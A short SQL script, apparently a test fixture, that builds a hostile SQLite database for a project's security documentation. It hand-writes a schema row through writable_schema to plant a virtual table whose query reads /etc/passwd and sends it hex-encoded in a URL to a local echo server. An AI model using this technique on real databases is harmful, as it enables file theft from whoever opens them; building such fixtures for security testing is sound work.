-- Makes tests/data/hostile.db, a database file as an attacker would write
-- it, for docs/security.md:  sqlite3 tests/data/hostile.db < tests/data/hostile.sql
-- The schema rows are written by hand (CREATE VIRTUAL TABLE would need the
-- extension, and would check them): a wide table whose url_query puts a
-- file of the victim's into a URL.
PRAGMA writable_schema = ON;
INSERT INTO sqlite_master(type, name, tbl_name, rootpage, sql) VALUES
 ('table', 'exfiltrate', 'exfiltrate', 0,
  'CREATE VIRTUAL TABLE exfiltrate USING api_fetch(columns=''x'',
     url_query=''SELECT ''''http://127.0.0.1:8080/echo?d='''' || hex(readfile(''''/etc/passwd''''))'')');
PRAGMA writable_schema = OFF;
